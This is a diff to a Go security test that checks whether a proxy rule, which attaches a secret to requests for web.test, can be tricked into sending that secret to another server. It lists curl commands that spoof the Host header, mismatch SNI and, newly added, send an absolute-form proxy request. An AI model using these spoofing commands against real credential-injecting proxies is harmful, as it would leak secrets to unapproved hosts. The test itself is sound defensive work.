@@ -39,12 +39,12 @@ func TestHeaderRuleExfiltration(t *testing.T) {
 	t.Logf("control: the rule put the secret on a request to web.test itself: %v", control)
 	to := other.Addr.String()
 	attempts := map[string]string{
-		"plain HTTP with Host web.test":          "curl -sS --max-time 5 -H 'Host: web.test' http://" + to + "/rt-exfil-host",
-		"plain HTTP with Host WEB.TEST:80":       "curl -sS --max-time 5 -H 'Host: WEB.TEST:80' http://" + to + "/rt-exfil-upper",
-		"plain HTTP with Host web.test.":         "curl -sS --max-time 5 -H 'Host: web.test.' http://" + to + "/rt-exfil-dot",
-		"HTTPS with SNI web.test":                "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " https://web.test/rt-exfil-sni",
-		"HTTPS with SNI web.test, Host other":    "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " -H 'Host: " + to + "' https://web.test/rt-exfil-sni-host",
-		"plain HTTP to port 8080, Host web.test": "curl -sS --max-time 5 -H 'Host: web.test' http://" + to + ":8080/rt-exfil-port",
+		"plain HTTP with Host web.test":         "curl -sS --max-time 5 -H 'Host: web.test' http://" + to + "/rt-exfil-host",
+		"plain HTTP with Host WEB.TEST:80":      "curl -sS --max-time 5 -H 'Host: WEB.TEST:80' http://" + to + "/rt-exfil-upper",
+		"plain HTTP with Host web.test.":        "curl -sS --max-time 5 -H 'Host: web.test.' http://" + to + "/rt-exfil-dot",
+		"HTTPS with SNI web.test":               "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " https://web.test/rt-exfil-sni",
+		"HTTPS with SNI web.test, Host other":   "curl -sS -k --max-time 5 --resolve web.test:443:" + to + " -H 'Host: " + to + "' https://web.test/rt-exfil-sni-host",
+		"an absolute-form request for web.test": "curl -sS --max-time 5 -x http://" + to + ":80 http://web.test/rt-exfil-proxy",
 	}
 	for _, name := range sortedKeys(attempts) {
 		out, code := sh(t, sb, attempts[name], time.Minute)
